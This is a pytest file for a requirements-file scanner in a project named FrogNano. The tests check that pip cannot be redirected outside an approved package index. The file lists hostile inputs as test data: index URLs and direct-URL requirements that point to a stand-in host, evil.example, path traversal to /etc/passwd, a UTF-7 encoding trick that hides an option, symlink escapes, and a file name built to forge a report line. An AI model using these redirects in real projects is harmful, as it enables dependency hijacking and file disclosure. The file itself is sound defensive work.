"""The redirect scan of requirements files: every way pip could leave the approved index."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from frognano.run.environment.detect import Detected, detect
from frognano.run.environment.redirects import find_redirects

from .scanning import scan, write

INDEX = "points pip at another index; only the policy's environment.index_url may name one"
OUTSIDE = "would be fetched from outside the approved index"

# (the requirements.txt line, the reason the scan gives for it); the line is line 2, after a pin
REFUSED_LINES = [
    ("-i http://evil.example/simple", f"--index-url {INDEX}"),
    ("--index-url=http://evil.example/simple", f"--index-url {INDEX}"),
    ("-ihttp://evil.example/simple", f"--index-url {INDEX}"),
    ("--pypi-url http://evil.example/simple", f"--index-url {INDEX}"),
    ("--extra-index-url http://evil.example/simple", f"--extra-index-url {INDEX}"),
    # optparse takes any unambiguous prefix of a long option, and so does pip
    ("--extra-index=http://evil.example/simple", f"--extra-index-url {INDEX}"),
    ("--ind http://evil.example/simple", f"--index-url {INDEX}"),
    ("-f ./wheels", "--find-links makes pip look for packages outside the approved index"),
    (
        "--find-links=https://evil.example/wheels",
        "--find-links makes pip look for packages outside the approved index",
    ),
    (
        "--trusted-host evil.example",
        "--trusted-host names a host for pip to trust; only the policy's index is reached",
    ),
    (
        "requests --index-url http://evil.example/simple",
        f"--index-url {INDEX}",
    ),
    (
        "foo @ https://evil.example/foo-1.0.whl",
        f"foo @ https://evil.example/foo-1.0.whl is a direct URL requirement that {OUTSIDE}",
    ),
    (
        'foo[x] @ file:///tmp/foo.whl ; python_version >= "3"',
        f'foo[x] @ file:///tmp/foo.whl ; python_version >= "3" is a direct URL requirement '
        f"that {OUTSIDE}",
    ),
    (
        "https://evil.example/foo-1.0.tar.gz",
        f"https://evil.example/foo-1.0.tar.gz is a URL that {OUTSIDE}",
    ),
    ("file:///tmp/foo.whl", f"file:///tmp/foo.whl is a URL that {OUTSIDE}"),
    (
        "git+https://github.com/a/b",
        f"git+https://github.com/a/b is a version-control requirement that {OUTSIDE}",
    ),
    ("hg+https://x/b", f"hg+https://x/b is a version-control requirement that {OUTSIDE}"),
    ("svn+svn://x/b", f"svn+svn://x/b is a version-control requirement that {OUTSIDE}"),
    ("bzr+lp:b", f"bzr+lp:b is a version-control requirement that {OUTSIDE}"),
    (
        "-e git+https://github.com/a/b#egg=b",
        f"--editable git+https://github.com/a/b#egg=b installs from a URL that {OUTSIDE}",
    ),
    (
        "--editable=https://x/b.zip",
        f"--editable https://x/b.zip installs from a URL that {OUTSIDE}",
    ),
    ("-e ../outside", "--editable ../outside is a path outside the repository"),
    ("-e /opt/src[test]", "--editable /opt/src[test] is a path outside the repository"),
    ("../wheels/foo-1.0.whl", "../wheels/foo-1.0.whl is a path outside the repository"),
    (
        "-r https://evil.example/more.txt",
        "--requirement https://evil.example/more.txt names a URL, which pip would fetch from "
        "outside the approved index",
    ),
    (
        "-c file:///etc/constraints.txt",
        "--constraint file:///etc/constraints.txt names a URL, which pip would fetch from "
        "outside the approved index",
    ),
    ("-r ../../etc/passwd", "--requirement ../../etc/passwd leaves the repository"),
    ("--requirement=/etc/passwd", "--requirement /etc/passwd leaves the repository"),
    ("-r missing.txt", "includes missing.txt, which does not exist in the repository"),
    (
        "--index-url ${MIRROR}",
        "the line uses ${...}, which pip replaces with an environment variable, so the scan "
        "cannot see what the line becomes; write the value out",
    ),
    (
        "--no-such-option",
        "pip would reject the line: pip does not accept the option --no-such-option in a "
        "requirements file",
    ),
    ("-x", "pip would reject the line: pip does not accept the option -x in a requirements file"),
    ("--pre=yes", "pip would reject the line: the option --pre takes no value"),
    ("--index-url", "pip would reject the line: the option --index-url needs a value"),
    ("foo bar", "foo bar is not a requirement pip would accept"),
]


@pytest.mark.parametrize(("line", "reason"), REFUSED_LINES)
def test_each_redirecting_line_is_refused_with_its_file_and_line(
    tmp_path: Path, line: str, reason: str
) -> None:
    assert scan(tmp_path, {"requirements.txt": f"requests==2.32.3\n{line}\n"}) == [
        f"requirements.txt:2: {reason}"
    ]


ALLOWED_LINES = [
    "requests==2.32.3",
    "requests>=2,<3",
    "requests[socks,security]~=2.32",
    'tomli>=2 ; python_version < "3.11"',
    "foo==1.0 --hash=sha256:0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef",
    "foo==1.0 \\\n    --hash=sha256:aa \\\n    --hash=sha256:bb",
    "requests  # see https://evil.example/simple for why",
    "# --index-url https://evil.example/simple",
    "   # git+https://github.com/a/b",
    "-e .",
    "-e .[test]",
    "--editable ./libs/inner",
    "./libs/inner",
    "-r other.txt",
    "-c constraints.txt",
    "--no-index",
    "--pre",
    "--prefer-binary",
    "--only-binary :all:",
    "--no-binary=foo",
    "--require-hashes",
    "--use-feature=fast-deps",
    "foo --config-settings=key=value",
]


@pytest.mark.parametrize("line", ALLOWED_LINES)
def test_ordinary_requirements_are_not_refused(tmp_path: Path, line: str) -> None:
    files: dict[str, str | bytes] = {
        "requirements.txt": f"{line}\n",
        "other.txt": "attrs\n",
        "constraints.txt": "attrs<30\n",
        "libs/inner/setup.py": "",
    }
    assert scan(tmp_path, files) == []


def test_a_continued_line_is_refused_at_the_line_it_starts_on(tmp_path: Path) -> None:
    text = "attrs\nrequests \\\n    --extra-index-url \\\n    http://evil.example\nsix\n"
    assert scan(tmp_path, {"requirements.txt": text}) == [
        f"requirements.txt:2: --extra-index-url {INDEX}"
    ]


def test_an_included_file_is_scanned_and_reported_under_its_own_name(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "requirements/dev.txt": "-r ../shared/base.txt\npytest\n",
        "shared/base.txt": "attrs\n\n--index-url http://evil.example\n",
    }
    assert scan(tmp_path, files) == [f"shared/base.txt:3: --index-url {INDEX}"]
    assert detect(tmp_path).key_files == ("requirements/dev.txt", "shared/base.txt")


def test_an_include_cycle_ends_and_both_files_are_key_files(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {
        "requirements.txt": "-r base.txt\nrequests\n",
        "base.txt": "-r requirements.txt\n-r ./base.txt\n-c requirements.txt\nattrs\n",
    }
    assert scan(tmp_path, files) == []
    assert detect(tmp_path).key_files == ("base.txt", "requirements.txt")


def test_an_include_through_a_symbolic_link_is_refused(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    write(outside, {"evil.txt": "--index-url http://evil.example\n"})
    repo = tmp_path / "repo"
    write(repo, {"requirements.txt": "attrs\n-r linked/evil.txt\n-r alias.txt\n"})
    (repo / "linked").symlink_to(outside)
    (repo / "alias.txt").symlink_to("requirements.txt")
    assert scan(repo, {}) == [
        "requirements.txt:2: includes linked/evil.txt, which goes through the symbolic link linked",
        "requirements.txt:3: includes alias.txt, which is a symbolic link",
    ]


def test_a_requirements_file_that_is_a_symbolic_link_is_refused(tmp_path: Path) -> None:
    write(tmp_path / "outside", {"evil.txt": "--index-url http://evil.example\n"})
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements.txt").symlink_to(tmp_path / "outside" / "evil.txt")
    assert scan(repo, {}) == ["requirements.txt: the requirements file is a symbolic link"]


def test_a_ten_megabyte_requirements_file_is_refused_unread(tmp_path: Path) -> None:
    line = "requests==2.32.3\n"
    big = line * (10 * 1024 * 1024 // len(line))
    assert scan(tmp_path, {"requirements.txt": big}) == [
        "requirements.txt: the requirements file is larger than 1 MiB; FrogNano does not read it"
    ]


def test_a_file_of_exactly_one_mebibyte_is_read(tmp_path: Path) -> None:
    text = "attrs\n" + "#" * (1024 * 1024 - 7) + "\n"
    assert len(text.encode()) == 1024 * 1024
    assert scan(tmp_path, {"requirements.txt": text}) == []


def test_an_encoding_declaration_that_would_hide_an_option_is_refused(tmp_path: Path) -> None:
    # pip decodes this as UTF-7: its second line is "--index-url http://evil.example"
    text = b"# -*- coding: utf-7 -*-\n+AC0ALQ-index-url http://evil.example\n"
    assert scan(tmp_path, {"requirements.txt": text}) == [
        "requirements.txt: the requirements file declares the encoding utf-7, which pip would "
        "honour; FrogNano reads only UTF-8"
    ]


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        (b"attrs\n\xff\xfe\n", "is not UTF-8 text (byte 6)"),
        ("attrs\n".encode("utf-16"), "is UTF-16 or UTF-32 text; FrogNano reads only UTF-8"),
    ],
)
def test_a_file_that_is_not_utf8_is_refused(tmp_path: Path, content: bytes, reason: str) -> None:
    assert scan(tmp_path, {"requirements.txt": content}) == [
        f"requirements.txt: the requirements file {reason}"
    ]


def test_a_utf8_bom_is_read_like_pip_does(tmp_path: Path) -> None:
    assert scan(tmp_path, {"requirements.txt": "\ufeff-i http://evil.example\n"}) == [
        f"requirements.txt:1: --index-url {INDEX}"
    ]


def test_an_editable_path_through_a_symbolic_link_is_refused(tmp_path: Path) -> None:
    write(tmp_path, {"requirements.txt": "-e ./vendor/lib\n"})
    (tmp_path / "vendor").symlink_to("/usr")
    assert scan(tmp_path, {}) == [
        "requirements.txt:1: --editable ./vendor/lib goes through the symbolic link vendor"
    ]


def test_the_redirect_reads_path_then_line_then_reason(tmp_path: Path) -> None:
    write(tmp_path, {"requirements/ci.txt": "--extra-index-url=http://x\n"})
    [redirect] = find_redirects(tmp_path, ["requirements/ci.txt"])
    assert (redirect.path, redirect.line) == ("requirements/ci.txt", 1)
    assert redirect.reason == f"--extra-index-url {INDEX}"
    assert str(redirect) == f"requirements/ci.txt:1: --extra-index-url {INDEX}"


def test_a_key_file_outside_the_repository_is_refused_not_read(tmp_path: Path) -> None:
    assert [str(r) for r in find_redirects(tmp_path, ["../x.txt", os.devnull])] == [
        "../x.txt: the requirements file is not a path inside the repository",
        f"{os.devnull}: the requirements file is not a path inside the repository",
    ]


def test_too_many_included_files_end_the_reading(tmp_path: Path) -> None:
    files: dict[str, str | bytes] = {f"r/{n}.txt": f"-r {n + 1}.txt\n" for n in range(150)}
    files["requirements.txt"] = "-r r/0.txt\n"
    assert scan(tmp_path, files) == [
        "r/98.txt:1: the requirements files include more than 100 files in all"
    ]


def test_a_requirements_folder_that_is_a_symbolic_link_is_not_listed(tmp_path: Path) -> None:
    write(tmp_path / "outside", {"secret-name.txt": "--index-url http://evil.example\n"})
    repo = tmp_path / "repo"
    repo.mkdir()
    (repo / "requirements").symlink_to(tmp_path / "outside")
    assert scan(repo, {}) == []
    assert detect(repo) == Detected(
        (), (), ("requirements/ is a symbolic link; FrogNano installs no file in it",)
    )


def test_a_file_name_cannot_forge_a_second_refusal(tmp_path: Path) -> None:
    name = "requirements-\nsetup.py:1: fine.txt"
    assert scan(tmp_path, {name: "-i http://e\n"}) == [
        f"requirements-\\nsetup.py:1: fine.txt:1: --index-url {INDEX}"
    ]
